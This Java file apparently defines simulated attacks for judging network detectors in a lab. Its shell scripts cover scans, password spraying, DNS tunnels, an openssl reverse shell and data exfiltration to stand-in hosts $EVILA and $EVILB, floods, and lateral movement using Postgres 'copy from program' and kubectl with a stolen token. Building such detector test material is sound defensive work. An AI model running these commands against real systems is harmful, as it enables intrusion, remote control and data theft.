package dev.weir.standalone.lab;

import static dev.weir.standalone.lab.AttackScripts.repeated;
import static dev.weir.standalone.lab.AttackScripts.sshEnd;
import static dev.weir.standalone.lab.AttackScripts.typed;
import static dev.weir.standalone.lab.LabHost.API;
import static dev.weir.standalone.lab.LabHost.BACKUP;
import static dev.weir.standalone.lab.LabHost.BASTION;
import static dev.weir.standalone.lab.LabHost.BROKER;
import static dev.weir.standalone.lab.LabHost.CACHE;
import static dev.weir.standalone.lab.LabHost.CI;
import static dev.weir.standalone.lab.LabHost.EVILA;
import static dev.weir.standalone.lab.LabHost.EVILB;
import static dev.weir.standalone.lab.LabHost.JOB;
import static dev.weir.standalone.lab.LabHost.NEW;
import static dev.weir.standalone.lab.LabHost.OPS;
import static dev.weir.standalone.lab.LabHost.ORDERS;
import static dev.weir.standalone.lab.LabHost.SCANNER;
import static dev.weir.standalone.lab.LabHost.SENSOR;
import static dev.weir.standalone.lab.LabHost.WEBB;

import dev.weir.standalone.lab.LabAttack.Listener;

/** The third attacks by which detectors were judged before they were tuned on them. */
final class ThirdJudgingAttacks extends AttackCatalogue {
    /** Addresses in random order: some refuse, some drop, and some are pods. */
    private static final String MIXED = """
            targets() {
              (for i in $(seq 30); do echo 10.60.7.$i; echo 10.60.8.$i; done
               printf '%s\\n' $WEB $WEBB $API $ORDERS $DB $CACHE $BROKER) | shuf
            }
            """;

    private static final String GUESSES = "for i in $(seq %d); do echo Winter$i; done > $FOLDER/tries-$$\n";

    ThirdJudgingAttacks() {
        super(false);
    }

    @Override
    void scans() {
        add("scan-pnscan-docker", "pnscan", WEBB, 1, """
                for net in 10.60.8.0/26 10.60.7.0/27; do
                  pnscan -t 400 -n 6 -W 'GET /version HTTP/1.0\\r\\n\\r\\n' $net 2375
                done
                """);
        add("scan-ssh-keyscan", "ssh-keyscan", JOB, 2, """
                (for i in $(seq 50); do echo 10.60.7.$i; done; printf '%s\\n' $WEB $WEBB $API $ORDERS $DB $BASTION) \\
                  > $FOLDER/hosts-$$
                timeout 40 ssh-keyscan -4 -T 1 -t ed25519 -f $FOLDER/hosts-$$
                """);
        add("scan-svmap-outside", "svmap", SCANNER, 2, """
                HOME=$FOLDER timeout 40 svmap -t 0.05 10.60.8.0/26 10.60.7.0/28 10.60.1.11 10.60.1.12
                """);
        add("scan-redis-cli", "redis-cli", NEW, 5, MIXED + """
                for h in $(targets); do timeout 0.3 redis-cli -h $h info; sleep 0.05; done
                """);
        add("scan-nmap-kubelet-slow", "nmap", ORDERS, 60, """
                nmap -n -Pn -sT --max-retries 0 --max-hostgroup 1 --scan-delay 300ms \\
                  -p 2375,2379,2380,4194,6666,8001,8443,10250,10255,10256 $WEB $WEBB $API $DB $CACHE $BACKUP
                """);
        add("scan-dmitry", "dmitry", OPS, 1, "cd $FOLDER && timeout 40 dmitry -pb -t 1 $BACKUP");
        add("scan-openssl-day", "openssl", SENSOR, 900, """
                for end in $(for i in $(seq 41); do echo 10.60.7.$i:8443; done
                    printf '%s\\n' $WEB:443 $WEBB:443 $API:6443 $KAPI:6443 $CACHE:443 $DB:443); do
                  timeout 0.4 openssl s_client -connect $end </dev/null; sleep 0.4
                done
                """);
    }

    @Override
    void webScans() {
        add("http-recon-nmap-enum", "nmap", JOB, 1, """
                timeout 45 nmap -n -Pn -p 8080 --script http-enum --script-args http.pipeline=1 $API
                """);
        add("http-recon-ffuf-vhost", "ffuf", CI, 1, AttackScripts.WORDS.formatted(300) + """
                timeout 45 ffuf -s -t 6 -p 0.1 -u http://$WEB/ -H 'Host: FUZZ.shop.example' -w $FOLDER/words-$$
                """);
        add("http-recon-httrack-slow", "httrack", EVILB, 20, """
                for i in $(seq 60); do echo http://$WEBB/.hidden/$((i * 7))/setup.php; done > $FOLDER/urls-$$
                timeout -k 1 35 httrack -q -O $FOLDER/mirror-$$ -%L $FOLDER/urls-$$ -c1 -%c4 -s0 -R0 -r2
                """);
    }

    @Override
    void logins() {
        add(
                "bruteforce-medusa-ftp",
                "medusa",
                JOB,
                2,
                GUESSES.formatted(45) + "timeout 50 medusa -h $BROKER -u backup -P $FOLDER/tries-$$ -M ftp -t 6",
                new Listener(BROKER, """
                        mkdir -p $FOLDER/empty
                        printf '%s\\n' listen=YES listen_ipv6=NO local_enable=YES anonymous_enable=NO pam_service_name=vsftpd \\
                          secure_chroot_dir=$FOLDER/empty listen_address=$BROKER seccomp_sandbox=NO background=NO \\
                          > $FOLDER/guarded-ftp.conf
                        exec vsftpd $FOLDER/guarded-ftp.conf
                        """));
        add("bruteforce-hydra-ssh-spray", "hydra", SCANNER, 10, """
                printf '%s\\n' $BASTION $API $ORDERS $WEBB > $FOLDER/hosts-$$
                printf '%s\\n' root admin deploy ubuntu git jenkins postgres www-data backup oracle test ec2-user > $FOLDER/users-$$
                timeout 50 hydra -q -t 1 -T 4 -L $FOLDER/users-$$ -p Winter2026 -M $FOLDER/hosts-$$ ssh
                """);
        add(
                "bruteforce-rsync",
                "rsync",
                NEW,
                5,
                "for i in $(seq 80); do RSYNC_PASSWORD=pass$i rsync --port=8730 rsync://backup@$BACKUP/safe/; sleep 0.1; done",
                new Listener(BACKUP, """
                        echo backup:none-guesses-it > $FOLDER/rsync.secrets && chmod 600 $FOLDER/rsync.secrets
                        printf '%s\\n' 'reverse lookup = no' '[safe]' "path = $FOLDER/vault" 'auth users = backup' \\
                          "secrets file = $FOLDER/rsync.secrets" 'use chroot = false' > $FOLDER/guarded-rsync.conf
                        exec rsync --daemon --no-detach --config=$FOLDER/guarded-rsync.conf --address=$BACKUP --port=8730
                        """));
        add("bruteforce-git-spray-slow", "git", SENSOR, 40, """
                for i in $(seq 20); do
                  for h in $WEB $WEBB $API; do
                    GIT_TERMINAL_PROMPT=0 HOME=$FOLDER git ls-remote http://deploy:release$i@$h/admin/shop.git; sleep 0.3
                  done
                done
                """);
        add(
                "bruteforce-hydra-redis",
                "hydra",
                ORDERS,
                1,
                GUESSES.formatted(400) + "timeout 50 hydra -q -P $FOLDER/tries-$$ redis://$CACHE:6380",
                new Listener(
                        CACHE,
                        "exec redis-server --bind $CACHE --port 6380 --requirepass none-guesses-it --save '' --dir $FOLDER"));
    }

    @Override
    void tunnels() {
        add(
                "dns-tunnel-adnshost-burst",
                "adnshost",
                NEW,
                1,
                """
                head -c 12000 /dev/urandom | base32 -w 56 | tr -d = | sed 's/$/.f1.relay.example/' \\
                  | timeout 40 adnshost --config "nameserver $DNS" -a -Vq -ta -f
                """,
                AttackScripts.dnsEnd(EVILB, "relay.example", "10.66.66.66"));
        add("dns-tunnel-iodine-null-direct", "iodine", BASTION, 20, """
                timeout 28 iodine -f -r -T NULL -I 1 -P secret -d dnsn $EVILB relay.example & sleep 6
                head -c 60000 /dev/urandom | timeout 18 ncat --send-only 10.97.0.1 9999
                wait
                """, new Listener(EVILB, """
                        socat -u tcp-listen:9999,fork,reuseaddr open:/dev/null &
                        exec iodined -f -c -P secret -d dnsm 10.97.0.1/24 relay.example
                        """));
    }

    @Override
    void channels() {
        add(
                "c2-openssl-shell",
                "openssl",
                WEBB,
                25,
                """
                mkfifo $FOLDER/pipe-$$
                timeout 45 sh -c "sh -i <$FOLDER/pipe-$$ 2>&1 | openssl s_client -quiet -connect $EVILB:443 >$FOLDER/pipe-$$"
                """,
                new Listener(
                        EVILB,
                        typed(20, "id; ls -l /")
                                + " | openssl s_server -quiet -naccept 1 -accept $EVILB:443 -cert $FOLDER/tls.crt -key"
                                + " $FOLDER/tls.key"));
        add(
                "c2-git-beacon",
                "git",
                JOB,
                60,
                repeated(60, "HOME=$FOLDER timeout 2 git ls-remote git://$EVILB/tasks.git", 450, 30),
                new Listener(EVILB, """
                        git init -q --bare $FOLDER/git/tasks.git
                        HOME=$FOLDER git config --global safe.directory '*'
                        HOME=$FOLDER exec git daemon --base-path=$FOLDER/git --export-all --reuseaddr --listen=$EVILB
                        """));
        add(
                "c2-dead-ssh",
                "ssh",
                BASTION,
                60,
                repeated(
                        60,
                        "timeout 1 ssh $SSH -o ConnectTimeout=1 -N -R 2222:127.0.0.1:22 -p 443 root@$EVILA",
                        420,
                        15));
        add(
                "c2-socat-udp",
                "socat",
                API,
                60,
                repeated(
                        60,
                        "head -c $((60 + RANDOM % 80)) /dev/urandom | timeout 1 socat -t 0.1 - udp:$EVILB:443",
                        420,
                        40),
                new Listener(
                        EVILB, "exec socat -T 1 udp-recvfrom:443,fork,reuseaddr system:'head -c 40 /dev/urandom'"));
        add(
                "c2-curl-rotating",
                "curl",
                CI,
                60,
                """
                ends=($EVILA $EVILB)
                """
                        + repeated(
                                80,
                                "curl -sk -m 2 -o /dev/null -H \"Cookie: s=$(head -c 90 /dev/urandom | base64 -w 0)\""
                                        + " https://${ends[RANDOM % 2]}/api/items/$((RANDOM % 9 + 1))",
                                400,
                                40),
                webEnd(EVILA),
                webEnd(EVILB));
    }

    /** A web server with TLS that has the same pages as the shop's. */
    private static Listener webEnd(LabHost host) {
        return new Listener(host, """
                cat > $FOLDER/end-%1$s.conf <<END
                daemon off;
                pid $FOLDER/end-%1$s.pid;
                events {}
                http {
                  access_log off;
                  server {
                    listen $%2$s:443 ssl;
                    ssl_certificate $FOLDER/tls.crt;
                    ssl_certificate_key $FOLDER/tls.key;
                    root $FOLDER/www;
                  }
                }
                END
                exec nginx -c $FOLDER/end-%1$s.conf -p $FOLDER
                """.formatted(host.host(), host.name()));
    }

    @Override
    void transfers() {
        add("exfil-rclone-webdav", "rclone", BACKUP, 1, """
                mkdir $FOLDER/loot-$$ && for i in $(seq 15); do head -c 4000000 /dev/urandom > $FOLDER/loot-$$/$i; done
                timeout 45 rclone --config /dev/null --transfers 3 copy --webdav-url http://$EVILB:8080 $FOLDER/loot-$$ :webdav:in
                rm -r $FOLDER/loot-$$
                """, new Listener(EVILB, """
                        mkdir -p $FOLDER/dav
                        exec rclone --config /dev/null serve webdav --addr $EVILB:8080 $FOLDER/dav
                        """));
        add("exfil-git-push", "git", CI, 1, """
                export HOME=$FOLDER/home-$$ GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x
                mkdir $HOME && cd $HOME && git init -q . && head -c 50000000 /dev/urandom > loot
                git add loot && git commit -q -m x && timeout 40 git push -q git://$EVILA/in.git HEAD:refs/heads/x
                rm -rf $HOME
                """, new Listener(EVILA, """
                        git init -q --bare $FOLDER/pushed/in.git
                        HOME=$FOLDER git config --global safe.directory '*'
                        HOME=$FOLDER exec git daemon --base-path=$FOLDER/pushed --export-all --enable=receive-pack --reuseaddr --listen=$EVILA
                        """));
        add("exfil-scp-throttled", "scp", WEBB, 60, """
                head -c 50000000 /dev/urandom > $FOLDER/loot-$$
                timeout 50 scp $SSH -l 16000 $FOLDER/loot-$$ root@$EVILA:/dev/null
                rm $FOLDER/loot-$$
                """, sshEnd(EVILA));
    }

    @Override
    void floods() {
        add("ddos-dnsperf", "dnsperf", NEW, 1, """
                for i in $(seq 6000); do printf '%x.nowhere.example A\\n' $((i * 7919)); done > $FOLDER/names-$$
                timeout 20 dnsperf -s $DNS -d $FOLDER/names-$$ -n 1 -c 20 -Q 1000
                """);
        add(
                "ddos-redis-benchmark",
                "redis-benchmark",
                JOB,
                1,
                "timeout 20 redis-benchmark -h $CACHE -c 150 -n 4000 -k 0 -q -t get");
    }

    @Override
    void lateral() {
        add("lateral-pdsh", "pdsh", CI, 10, """
                export PDSH_SSH_ARGS_APPEND="$SSH"
                for command in 'uname -a; sleep 2' 'ps ax; sleep 1' 'cat /etc/passwd; sleep 2'; do
                  timeout 14 pdsh -R ssh -f 4 -t 1 -l root -w 10.60.7.[1-8],$API,$ORDERS,$WEBB,$BASTION "$command"
                done
                """);
        add("lateral-psql-program", "psql", WEBB, 20, """
                for what in id 'ls /' 'cat /etc/hosts' 'ps ax'; do
                  psql -q -h $DB -U postgres -c "create temp table t(x text); copy t from program '$what'; select * from t" postgres
                  sleep 1
                done
                for what in 'info server' 'config get dir' 'client list' 'module list'; do redis-cli -h $CACHE $what; sleep 1; done
                for h in $ORDERS $API; do timeout 9 ssh $SSH root@$h 'for i in 1 2 3; do id; sleep 1; done'; done
                """);
        add("lateral-pod-to-apiserver-kubectl", "kubectl", JOB, 10, """
                export HOME=$FOLDER/kube-$$
                kube() {
                  timeout 8 kubectl --server=https://$KAPI:6443 --insecure-skip-tls-verify --token=stolen --request-timeout=2s "$@"
                  sleep 1
                }
                kube auth can-i --list
                for what in secrets pods nodes serviceaccounts configmaps clusterrolebindings services; do
                  kube get $what -A
                done
                """);
    }
}
